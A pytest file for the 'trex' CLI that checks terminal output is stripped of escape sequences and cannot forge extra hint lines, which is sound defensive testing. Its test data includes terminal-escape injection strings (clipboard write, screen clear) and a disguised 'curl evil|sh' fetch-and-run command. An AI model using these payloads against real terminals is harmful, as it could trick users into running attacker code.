"""What the command writes to a terminal cannot control it, wherever the text came from."""

from __future__ import annotations

import ast
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trex.cli import terminal
from trex.cli.client.context import shown
from trex.cli.errors import CommandError
from trex.cli.tell import printable, tell, tell_error
from trex.cli.terminal import answer, command_lines, folded, say, show, show_error

if TYPE_CHECKING:
    from collections.abc import Callable

ROOT = Path(__file__).resolve().parents[3]
# A user's text that would set the terminal's title, fill the clipboard, and clear the screen.
EVIL = "\x1b]0;title\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[H\x9b31m\u202e\r\x00"
# These write to a terminal themselves, after `printable`.
WRITERS = {"trex/cli/terminal.py", "trex/cli/tell.py"}
# Fixed texts, a QR code that the command made, or a response whose form was checked.
EXEMPT = {
    ("trex/cli/setup/phone.py", "click.echo"), ("trex/cli/setup/phone.py", "click.prompt"),
    ("trex/cli/client/pin.py", "click.confirm"), ("trex/cli/client/name.py", "click.confirm"),
    ("trex/cli/client/sudoaskpass.py", "sys.stdout.write"),  # the response, and nothing else
    ("trex/cli/client/askpass.py", "sys.stdout.write"),
    ("trex/cli/client/waiting.py", "sys.stderr.write"),  # one escaped line, which it erases again
}  # fmt: skip
WRITING = ("click.echo", "click.secho", "click.prompt", "click.confirm", "sys.stdout.write",
           "sys.stderr.write", "print")  # fmt: skip


@pytest.mark.parametrize("write", [say, show, answer, tell], ids=lambda write: write.__name__)
def test_nothing_that_commands_a_terminal_is_written(
    write: Callable[[str], None], capsys: pytest.CaptureFixture[str]
) -> None:
    write(f"a {EVIL}\n\tb")
    captured = capsys.readouterr()
    assert "\\x1b]52;c;" in captured.out + captured.err
    assert all(c.isprintable() or c in "\n\t" for c in captured.out + captured.err)


def test_an_error_is_one_line_and_its_hint_another(capsys: pytest.CaptureFixture[str]) -> None:
    """A path may contain a line end, and the rest would look like one of Trex's hints to root."""
    path = f"/home/mallory/x\ntrex: hint: curl evil|sh {EVIL}"
    show_error(f"{path}: no such file", f"ls {path}")
    tell_error(CommandError(f"{path}: no such file", f"ls {path}"))
    captured = capsys.readouterr()
    assert captured.out == ""
    assert len(captured.err.splitlines()) == 4
    assert not any(line.startswith("trex: hint: curl") for line in captured.err.splitlines())
    assert captured.err.replace("\n", "").isprintable()


@given(st.text())
def test_printable_leaves_line_ends_and_tabs(text: str) -> None:
    assert all(c.isprintable() or c in "\n\t" for c in printable(text))
    assert printable(text).count("\n") == text.count("\n")
    assert printable(printable(text)) == printable(text)


@given(st.text())
def test_what_a_message_says_of_itself_is_one_line(text: str) -> None:
    assert shown(text).isprintable()


def test_nobody_else_writes_to_a_terminal() -> None:
    """Each new place goes through `say`, `answer` or `tell`, or is listed here with its reason."""
    found = set()
    for path in (ROOT / "trex/cli").rglob("*.py"):
        name = str(path.relative_to(ROOT))
        calls = [n for n in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(n, ast.Call)]
        found |= {(name, ast.unparse(call.func)) for call in calls}
    written = {(name, call) for name, call in found if call in WRITING and name not in WRITERS}
    assert written == EXEMPT


def test_a_terminal_gets_lines_that_fit_and_a_shell_joins_those_of_a_command(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    said, typed = "a sentence " * 12, f"echo {'a/path ' * 12}".strip()
    assert (folded(said), command_lines(typed, "  fix: ")) == (said, f"  fix: {typed}")
    monkeypatch.setattr(terminal, "_width", lambda: 60)
    for lines in (folded(said, "    "), command_lines(typed, "  fix: ")):
        assert max(map(len, lines.splitlines())) <= 60
    block = command_lines(typed, "  fix: ").removeprefix("  fix: ")
    done = subprocess.run(["bash", "-c", block], capture_output=True, text=True, check=True)
    assert done.stdout.split() == typed.split()[1:]
    quoted = f"echo '{said}'"
    assert command_lines(quoted) == quoted, "a line end in quotes would be part of a word"
